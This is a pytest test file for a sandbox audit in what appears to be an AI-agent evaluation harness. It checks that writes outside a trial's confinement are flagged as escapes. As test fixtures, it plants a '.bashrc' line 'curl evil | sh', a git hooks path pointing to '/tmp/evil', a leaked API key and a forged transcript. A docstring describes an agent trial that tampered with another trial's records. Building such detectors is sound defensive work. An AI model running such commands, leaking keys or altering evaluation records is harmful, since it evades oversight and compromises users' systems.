"""The hermeticity audit and the clean-sources record: what a trial must not change."""

from __future__ import annotations

import json
import os
import uuid
from pathlib import Path

from pytest_atlante.sandbox.audit import Audit
from pytest_atlante.sandbox.isolation import Confinement, hidden_roots
from pytest_atlante.sandbox.sources import changed_in_copy, copy_of, prepare_sources, remove_sources


def _layout(tmp_path: Path) -> tuple[Path, Path, Path, Path]:
    project = tmp_path / "project"
    (project / "eval" / "fixtures" / "app").mkdir(parents=True)
    (project / "eval" / "fixtures" / "app" / "README.md").write_text("# app\n")
    (project / ".git" / "objects" / "ab").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n")
    home = tmp_path / "home"
    (home / ".cache").mkdir(parents=True)
    (home / "eval.log").write_text("")
    (home / ".bashrc").write_text("# rc\n")
    report = project / ".atlante" / "eval" / "run-1"
    run_temp = tmp_path / "tmp" / "atlante-eval-run-1"
    return project, home, report, run_temp


def test_writes_to_the_project_home_top_and_report_dir_are_escapes(tmp_path: Path) -> None:
    project, home, report, run_temp = _layout(tmp_path)
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    (project / "eval" / "fixtures" / "app" / "README.md").write_text("# changed\n")
    (project / "escaped.txt").write_text("x")
    (project / ".git" / "config").write_text("[core]\n\thooksPath = /tmp/evil\n")
    (home / ".bashrc").write_text("curl evil | sh\n")
    (home / "new-file").write_text("x")
    report.mkdir(parents=True)
    (report / "report.json").write_text("{}")
    assert audit.escapes(started) == sorted([
        ".atlante/eval/run-1/report.json", ".git/config", "escaped.txt", "eval/fixtures/app/README.md",
        "~/.bashrc", "~/new-file",
    ])


def test_legitimate_concurrent_activity_is_no_escape(tmp_path: Path) -> None:
    project, home, report, _ = _layout(tmp_path)
    run_temp = project / "tmp" / "atlante-eval-run-1"  # TMPDIR inside the project
    (project / "src").mkdir()
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    # Other trials' sandboxes, pytest's and Python's caches, new git objects, the run's report
    # directory being created with another trial's artifacts, inside HOME's directories, a
    # shell's history, and reading files.
    (run_temp / "other-1" / "sandbox").mkdir(parents=True)
    (run_temp / "other-1" / "sandbox" / "f").write_text("x")
    for cache in (".pytest_cache", "src/__pycache__", ".mypy_cache"):
        (project / cache).mkdir(parents=True)
        (project / cache / "x").write_text("x")
    (project / ".git" / "objects" / "ab" / "cdef").write_bytes(b"x")
    (report / "trials" / "other" / "1").mkdir(parents=True)
    (report / "trials" / "other" / "1" / "transcript.jsonl").write_text("{}")
    (home / ".cache" / "pip").mkdir()
    (home / ".bash_history").write_text("ls\n")
    (home / "eval.log").write_text("pytest output the user redirected here\n")
    (project / "eval" / "fixtures" / "app" / "README.md").read_text()
    assert audit.escapes(started) == [], audit.escapes(started)


def test_the_runs_copy_of_a_source_is_checked_against_its_record(tmp_path: Path) -> None:
    fixture = tmp_path / "fixture"
    (fixture / "src").mkdir(parents=True)
    (fixture / "a.txt").write_text("a\n")
    (fixture / "src" / "b.py").write_text("b\n")
    run_id = "t" + uuid.uuid4().hex[:12]
    try:
        sources = json.loads(json.dumps(prepare_sources([fixture], run_id)))  # as an xdist worker receives it
        copy = copy_of(sources, fixture)
        assert copy != fixture and (copy / "src" / "b.py").read_text() == "b\n"
        assert copy_of(sources, tmp_path / "other") == tmp_path / "other"
        # The project's own fixture changing does not touch the copy trials use.
        (fixture / "a.txt").write_text("contaminated\n")
        assert changed_in_copy(sources, fixture) == []
        os.utime(copy / "a.txt")  # a touch: same bytes, new fingerprint
        (copy / "src" / "b.py").write_text("b\n")  # rewritten with the same bytes
        assert changed_in_copy(sources, fixture) == []
        (copy / "a.txt").write_text("A\n")
        (copy / "src" / "new.py").write_text("")
        (copy / "src" / "b.py").unlink()
        assert changed_in_copy(sources, fixture) == ["a.txt", "src/b.py", "src/new.py"]
    finally:
        remove_sources(run_id)
        os.rmdir(copy.parent.parent)


def test_escapes_and_changed_copies_name_any_byte_string_in_its_shown_form(tmp_path: Path) -> None:
    project, home, report, run_temp = _layout(tmp_path)
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    for where, name in ((project, b"bad\xff\xfe.txt"), (project, b"nl\nname\x1b"), (home, b".rc\xc3")):
        with open(os.fsencode(where) + b"/" + name, "wb") as handle:
            handle.write(b"x")
    escapes = audit.escapes(started)
    assert escapes == sorted(["bad\\xff\\xfe.txt", "nl\\nname\\x1b", "~/.rc\\xc3"])
    json.dumps(escapes).encode("utf-8")

    fixture = tmp_path / "fixture"
    fixture.mkdir()
    run_id = "t" + uuid.uuid4().hex[:12]
    try:
        sources = json.loads(json.dumps(prepare_sources([fixture], run_id)))
        copy = copy_of(sources, fixture)
        with open(os.fsencode(copy) + b"/planted\xff\t", "wb") as handle:
            handle.write(b"x")
        assert changed_in_copy(sources, fixture) == ["planted\\xff\\t"]
    finally:
        remove_sources(run_id)
        os.rmdir(copy.parent.parent)


def test_a_report_directory_in_home_appearing_mid_run_is_no_escape(tmp_path: Path) -> None:
    """``--atlante-out ~/out`` (pytester's HOME is its own directory): the run creates ``~/out``
    while a trial runs; a sibling the agent creates is still an escape."""
    project, home, _, run_temp = _layout(tmp_path)
    report = home / "out" / "run"
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    (report / "trials" / "s" / "1").mkdir(parents=True)
    (report / "trials" / "s" / "1" / "transcript.jsonl").write_text("{}")
    (home / "outside").mkdir()
    assert audit.escapes(started) == ["~/outside"]


def test_what_pytest_and_its_plugins_are_configured_to_write_is_no_escape(tmp_path: Path) -> None:
    """Issue 27: allure results, the report log, coverage data files, a log file in HOME and
    another run's report beside this one's are written by other writers of the run; a file the
    agent writes beside each of them is still an escape."""
    project, home, report, run_temp = _layout(tmp_path)
    outputs = [project / "allure-results", project / "report-log.jsonl", project / ".coverage",
               project / ".coverage.*", home / "pytest.log", report / "junit.xml",
               project / ".atlante" / "eval" / "[0-9]*T[0-9]*Z-*", project / ".atlante" / ".gitignore"]
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp, outputs=outputs)
    started = audit.start()
    (project / "allure-results").mkdir()
    (project / "allure-results" / "0b1c-result.json").write_text("{}")
    (project / "report-log.jsonl").write_text("{}\n")
    (project / ".coverage.host.123.Xabc").write_bytes(b"sqlite")
    (project / ".coverage").write_bytes(b"sqlite")
    (home / "pytest.log").write_text("log\n")
    report.mkdir(parents=True)
    (report / "junit.xml").write_text("<testsuites/>")
    other = project / ".atlante" / "eval" / "20261130T083655Z-1a2b3c"
    (other / "trials" / "s" / "1").mkdir(parents=True)
    (other / "report.json").write_text("{}")
    (project / ".atlante" / ".gitignore").write_text("eval/\n")
    assert audit.escapes(started) == []
    # Real escapes beside every excluded output.
    (project / "allure-results-not").write_text("x")
    (project / "coverage.txt").write_text("x")
    (project / ".atlante" / "eval" / "notes.txt").write_text("x")
    (home / "pytest.log.evil").write_text("x")
    (report / "planted.txt").write_text("x")
    assert audit.escapes(started) == sorted([".atlante/eval/notes.txt", ".atlante/eval/run-1/planted.txt",
                                             "allure-results-not", "coverage.txt", "~/pytest.log.evil"])


def test_another_runs_temp_directory_inside_the_project_is_no_escape(tmp_path: Path) -> None:
    project, home, report, _ = _layout(tmp_path)
    run_temp = project / "tmp" / "atlante-eval-run-1"
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    (project / "tmp" / "atlante-eval-run-2" / "s-1" / "sandbox").mkdir(parents=True)
    (project / "tmp" / "atlante-eval-run-2" / "s-1" / "sandbox" / "f").write_text("x")
    (project / "tmp" / "escaped.txt").write_text("x")
    assert audit.escapes(started) == ["tmp/escaped.txt"]


def _confinement(project: Path, run_temp: Path, *writable: Path) -> Confinement:
    trial = run_temp / "s-1"
    return Confinement(writable=writable or (trial / "sandbox", trial / "home", trial / "tmp"),
                       hidden=hidden_roots(user_home=Path.home(), project_root=project, report_dir=None),
                       trial_dir=trial, cwd=trial / "sandbox")


def test_under_namespace_isolation_only_what_the_trial_can_write_is_attributed(tmp_path: Path) -> None:
    """The project, HOME and the report are read-only or hidden for a confined trial: a change there
    is another writer's (another worker's Allure file, another terminal's run).  A place a writable
    bind reaches is still watched, and a change in it is the trial's escape."""
    project, home, report, run_temp = _layout(tmp_path)
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    confined = _confinement(project, run_temp)
    started = audit.start(confined)
    assert started == [None] * len(audit.watched)  # nothing the trial could write is watched
    (project / "allure-results").mkdir()
    (project / "allure-results" / "x-result.json").write_text("{}")
    (home / "new-file").write_text("x")
    assert audit.escapes(started) == []

    # TMPDIR inside the project: the trial's binds lie in the run's temp dir, which is skipped.
    inside_temp = project / "tmp" / "atlante-eval-run-1"
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=inside_temp)
    assert audit.start(_confinement(project, inside_temp))[0] is None

    # A writable bind elsewhere in the project (or holding it): the project stays the trial's.
    writable = project / "src"
    writable.mkdir()
    started = audit.start(_confinement(project, inside_temp, writable))
    assert started[0] is not None
    (writable / "escaped.txt").write_text("x")
    assert audit.escapes(started) == ["src/escaped.txt"]
    assert audit.start(_confinement(project, inside_temp, tmp_path))[0] is not None


def test_another_trials_files_in_the_report_directory_are_watched(tmp_path: Path) -> None:
    """Issue 26: with isolation off a trial appended the API key to an earlier trial's host stream and
    rewrote its transcript, unnoticed.  New trial files (the runner writes them meanwhile) are no escape."""
    project, home, report, run_temp = _layout(tmp_path)
    earlier = report / "trials" / "earlier" / "1"
    earlier.mkdir(parents=True)
    (earlier / "host-stream.jsonl").write_text('{"type": "result"}\n')
    (earlier / "transcript.jsonl").write_text('{"type": "header"}\n')
    (earlier / "gone.jsonl").write_text("{}\n")
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    with (earlier / "host-stream.jsonl").open("a") as stream:
        stream.write("sk-ant-leaked\n")
    (earlier / "transcript.jsonl").write_text('{"type": "header", "forged": true}\n')
    (earlier / "gone.jsonl").unlink()
    (report / "trials" / "this" / "1").mkdir(parents=True)
    (report / "trials" / "this" / "1" / "transcript.jsonl").write_text("{}\n")  # the runner's own write
    shown = report.relative_to(project).as_posix()
    assert audit.escapes(started) == [f"{shown}/trials/earlier/1/{name}"
                                      for name in ("gone.jsonl", "host-stream.jsonl", "transcript.jsonl")]


def test_the_runners_atomic_writes_under_trials_are_no_escape(tmp_path: Path) -> None:
    """Another worker's transcript is written through a temp file that is there when the window
    opens and renamed away before it closes (an xdist run blamed a passing trial for it)."""
    project, home, report, run_temp = _layout(tmp_path)
    other = report / "trials" / "other" / "1"
    other.mkdir(parents=True)
    temp = other / ".transcript.jsonl.abc123.tmp"
    temp.write_text("{}\n")
    audit = Audit.for_run(project, home=home, report_dir=report, run_temp=run_temp)
    started = audit.start()
    temp.rename(other / "transcript.jsonl")
    assert audit.escapes(started) == []
